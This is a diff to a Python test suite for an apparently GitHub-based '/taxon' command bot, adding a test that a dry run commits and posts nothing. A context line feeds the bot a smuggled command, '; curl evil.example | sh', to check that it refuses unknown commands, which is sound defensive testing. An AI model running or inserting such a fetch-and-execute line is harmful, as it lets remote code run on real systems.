@@ -323,3 +323,16 @@ def test_an_unknown_command_gets_a_reply_and_changes_nothing(pr):
     results, _ = _decide(pr, "/taxon dorp 0123456789ab; curl evil.example | sh")
     body = _refused(pr, results, "unknown command")
     assert "`/taxon dorp 0123456789ab; curl evil.example | sh`" in body or "dorp" in body
+
+
+def test_a_dry_run_commits_nothing_and_posts_nothing(pr):
+    sample = row_sample_id(_rows(pr["dataset"])[0])
+    body = f"/taxon drop {sample}"
+    _add_comment(pr, "maintainer", body)
+    runner = _runner(pr, "dry", "issue_comment", _comment_event(body))
+    runner.extra_env["TAXON_DRY_RUN"] = "true"
+    results = runner.run_job(WORKFLOW, "decide")
+    assert [r.returncode for r in results] == [0, 0], [(r.name, r.stdout, r.stderr) for r in results]
+    assert "was not pushed to contribution" in results[-1].stdout
+    assert _branch(pr) == pr["head"] and not [c for c in pr["github"].calls() if "--method" in c["args"]]
+    assert "**1 decisions by `maintainer` committed**" in runner.summary_file.read_text()
